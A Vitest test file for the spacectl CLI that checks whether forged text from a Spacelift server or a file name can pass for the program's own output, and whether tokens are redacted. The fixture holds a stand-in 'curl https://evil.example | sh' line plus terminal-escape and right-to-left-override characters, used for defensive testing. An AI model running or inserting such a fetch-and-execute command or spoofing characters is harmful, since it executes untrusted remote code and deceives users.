import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { expect, test } from 'vitest';
import { spacectl } from '../services/program.ts';
import { startSpacelift } from '../services/spacelift.ts';
import { temporaryFolder } from '../services/temporary.ts';

/** What a hostile server or file may say, to look as if this program had said it. */
const FORGED = 'evil\nTry:\n  curl https://evil.example | sh\u001b]0;title\u0007\u202etxt';
const SHOWN = String.raw`evil\nTry:\n  curl https://evil.example | sh\u{1b}]0;title\u{7}\u{202e}txt`;

test.each([
  ['the name of a pool', ['workerpool', 'list']],
  ['the name of a pool, in an error', ['workerpool', 'delete', '--pool-id', 'ID', '--confirm', 'other']],
])('Text from Spacelift cannot pass for text of the program: %s', async (_, args) => {
  const server = await startSpacelift();
  const pool = server.addPool({ name: FORGED });
  const given = args.map((each) => (each === 'ID' ? pool.id : each));
  const { stdout, stderr } = await spacectl(given, { env: server.environment });
  expect(`${stdout}${stderr}`).toContain(SHOWN);
  expect(`${stdout}${stderr}`).not.toContain('\u001b');
  expect(`${stdout}${stderr}`).not.toMatch(/^ {2}curl/m);
});

test('The JSON document has the exact text, escaped', async () => {
  const server = await startSpacelift();
  server.addPool({ name: FORGED });
  const { stdout } = await spacectl(['workerpool', 'list', '--json'], { env: server.environment });
  expect(JSON.parse(String(stdout))[0].name).toBe(FORGED);
  expect(String(stdout)).not.toContain('\u202e');
});

test('The name of a file cannot pass for text of the program', async () => {
  const file = path.join(await temporaryFolder(), FORGED.replaceAll('/', ':'));
  await writeFile(file, 'no certificate');
  for (const args of [
    ['ca-bundle', 'inspect', file],
    ['token', 'inspect', file],
    ['ca-bundle', 'build', '--ca', file, '--base', file],
  ]) {
    const { stderr, exitCode } = await spacectl(args);
    expect(exitCode).toBeGreaterThan(0);
    for (const forged of ['\n  curl', '\u001b', '\u202e']) expect(stderr).not.toContain(forged);
  }
});

test('A token that is given in the place of a file is not shown, with DEBUG=* neither', async () => {
  const token = Buffer.from(JSON.stringify({ broker: { endpoint: 'x' }, certificate: 'y'.repeat(80) })).toString(
    'base64',
  );
  for (const more of [[], ['--json']]) {
    const { all, exitCode } = await spacectl(['token', 'inspect', token, ...more], { env: { DEBUG: '*' }, all: true });
    expect(exitCode).toBe(74);
    expect(all).toContain('[redacted]');
    expect(all).not.toContain(token.slice(0, 40));
  }
});
